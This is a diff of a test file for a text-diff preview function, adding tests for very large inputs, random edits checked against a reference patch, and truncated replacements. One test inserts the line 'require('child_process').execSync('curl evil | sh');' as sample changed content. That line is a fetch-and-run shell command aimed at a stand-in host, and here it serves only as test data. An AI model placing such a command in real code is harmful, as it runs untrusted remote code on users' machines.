@@ -185,11 +185,99 @@ describe("diffPreview: v1 texts", () => {
     const before = Array.from({ length: 6000 }, () => (next() < 0.5 ? "{" : "}"));
     const after = Array.from({ length: 6000 }, () => (next() < 0.5 ? "{" : "}"));
     const diff = previewTextDiff("f", before.join("\n"), after.join("\n"));
-    // One hunk: every old line of the changed region removed (the preview shows only those), then every new one added.
-    assert.equal(diff.preview.filter((line) => line.startsWith("@@")).length, 1);
-    assert.ok(diff.preview.slice(1).every((line) => !line.startsWith("+")));
+    // One hunk: every old line of the changed region removed, then every new one added; the old lines take half the
+    // preview, so the new ones show too.
+    const [header, ...rest] = diff.preview;
+    assert.match(header!, /^@@ -\d+,\d+ \+\d+,\d+ @@$/);
+    const note = rest.findIndex((line) => line.startsWith("@@"));
+    assert.match(rest[note]!, /^@@ \d+ more removed lines not shown @@$/);
+    assert.ok(rest.slice(0, note).every((line) => line.startsWith("-")));
+    assert.ok(rest.slice(note + 1).every((line) => line.startsWith("+")));
+    assert.ok(note >= 90 && rest.length - note > 90, `${note} old lines, ${rest.length - note - 1} new`);
     assert.ok(diff.removed > 5900 && diff.added === diff.removed);
     assert.equal(diff.truncated, true);
+    assert.equal(diff.preview.length, LIMITS.previewLines);
+  });
+});
+
+describe("diffPreview: texts too large to diff whole (over 512K characters together)", () => {
+  /** 20,000 lines, about 440K characters a side. */
+  const big = source(20_000);
+
+  it("shows a change in the middle as that change, with exact counts and its line numbers", () => {
+    const after = big.slice();
+    after[12_345] = "require('child_process').execSync('curl evil | sh');";
+    const diff = previewTextDiff("f", `${big.join("\n")}\n`, `${after.join("\n")}\n`);
+    assert.deepEqual(diff.preview, [
+      "@@ -12343,7 +12343,7 @@",
+      ` ${big[12_342]}`,
+      ` ${big[12_343]}`,
+      ` ${big[12_344]}`,
+      `-${big[12_345]}`,
+      `+${after[12_345]}`,
+      ` ${big[12_346]}`,
+      ` ${big[12_347]}`,
+      ` ${big[12_348]}`,
+    ]);
+    assert.deepEqual([diff.added, diff.removed, diff.truncated], [1, 1, false]);
+  });
+
+  it("counts exactly and turns the old text into the new, for random edits anywhere, near each other (40 pairs)", () => {
+    const next = random(21);
+    for (let n = 0; n < 40; n++) {
+      const after = big.slice();
+      // Within 2,000 lines of each other, the first or the last lines included: edits far apart are one replacement.
+      const place = next();
+      const from =
+        place < 0.2 ? 0 : place < 0.4 ? big.length - 2_000 : Math.floor(next() * (big.length - 2_000));
+      for (let edit = 0; edit < 1 + Math.floor(next() * 3); edit++) {
+        const at = from + Math.floor(next() * 1_990);
+        const kind = next();
+        if (kind < 0.4) after[at] = `changed ${n}`;
+        else if (kind < 0.7) after.splice(at, 1 + Math.floor(next() * 5));
+        else after.splice(at, 0, "inserted", "");
+      }
+      const end = next() < 0.5 ? "\n" : "";
+      const before = big.join("\n") + end;
+      const text = after.join("\n") + end;
+      const diff = previewTextDiff("f", before, text);
+      const reference = structuredPatch("f", "f", before, text, undefined, undefined, { context: 3 });
+      const changed = reference.hunks.flatMap((h) => h.lines);
+      assert.equal(diff.added, changed.filter((l) => l.startsWith("+")).length, `pair ${n}`);
+      assert.equal(diff.removed, changed.filter((l) => l.startsWith("-")).length, `pair ${n}`);
+      if (!diff.truncated) assert.deepEqual(applyPreview(before, diff.preview), lines(text), `pair ${n}`);
+    }
+  });
+
+  it("a newline added at the end as well: one replacement from the change to the end, a true diff", () => {
+    const after = big.slice();
+    after[5_000] = "changed";
+    const diff = previewTextDiff("f", `${big.join("\n")}\n`, after.join("\n"));
+    assert.deepEqual([diff.added, diff.removed, diff.truncated], [15_000, 15_000, true]);
+    assert.deepEqual(diff.preview.slice(0, 2), ["@@ -5001,15000 +5001,15000 @@", `-${big[5_000]}`]);
+    assert.equal(
+      diff.preview[diff.preview.indexOf("@@ 14900 more removed lines not shown @@") + 1],
+      "+changed",
+    );
+  });
+
+  it("a file replaced whole shows what it becomes, not its old lines as added", () => {
+    const diff = previewTextDiff("f", `${big.join("\n")}\n`, "module.exports = 1;\n");
+    assert.deepEqual([diff.added, diff.removed, diff.truncated], [1, 20_000, true]);
+    assert.equal(diff.preview[0], "@@ -1,20000 +1,1 @@");
+    assert.equal(diff.preview.at(-1), "+module.exports = 1;");
+    assert.ok(diff.preview.includes(`-${big[0]}`));
+  });
+
+  it("a change too large to diff is one replacement: exact counts, old lines first, then the new ones", () => {
+    const after = source(20_000, 1);
+    const diff = previewTextDiff("f", `head\n${big.join("\n")}\n`, `head\n${after.join("\n")}\n`);
+    assert.deepEqual([diff.added, diff.removed, diff.truncated], [20_000, 20_000, true]);
+    assert.equal(diff.preview[0], "@@ -2,20000 +2,20000 @@");
+    assert.equal(diff.preview[1], `-${big[0]}`);
+    const note = diff.preview.indexOf("@@ 19900 more removed lines not shown @@");
+    assert.equal(note, 101);
+    assert.equal(diff.preview[note + 1], `+${after[0]}`);
     assert.equal(diff.preview.length, LIMITS.previewLines);
   });
 });
